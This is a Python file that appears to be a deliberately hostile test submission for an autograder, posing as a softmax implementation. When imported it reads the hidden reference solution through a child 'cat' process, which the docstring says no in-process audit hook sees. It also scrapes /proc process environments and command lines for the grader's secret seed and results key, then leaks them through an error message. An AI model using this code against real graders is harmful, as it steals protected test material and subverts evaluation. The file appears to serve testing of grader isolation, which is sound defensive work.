"""Hostile: steals what the grader keeps from students and prints it into its own failure message, which reaches the
results: the reference's source (read by a child process, which no audit hook in this process sees), the secret seed
and the reference path (from the grader's environment and command line under /proc)."""

import os
import subprocess
from pathlib import Path

LOOT = []

guess = os.environ.get("HOSTILE_REFERENCE_GUESS")  # a student may know the cluster's layout
if guess:
    copied = subprocess.run(["cat", f"{guess}/kernels/softmax.py"], capture_output=True, text=True)
    LOOT.append(f"cat: {copied.stdout[:4000] or copied.stderr.strip()}")
for proc in Path("/proc").glob("[0-9]*"):
    for name in ("environ", "cmdline"):
        try:
            text = (proc / name).read_bytes().decode(errors="replace")
        except OSError:
            continue
        for word in text.split("\0"):
            if word.startswith(("GRADER_SECRET_SEED", "GRADER_REFERENCE", "GRADER_RESULTS_KEY")) or "reference" in word:
                LOOT.append(f"{proc.name}/{name}: {word}")
for variable in ("GRADER_SECRET_SEED", "GRADER_SECRET_SEED_FILE", "GRADER_REFERENCE", "GRADER_RESULTS_KEY_FILE"):
    if variable in os.environ:
        LOOT.append(f"own environment: {variable}={os.environ[variable]}")


def softmax(x):
    raise RuntimeError("loot: " + (" | ".join(LOOT) if LOOT else "nothing"))
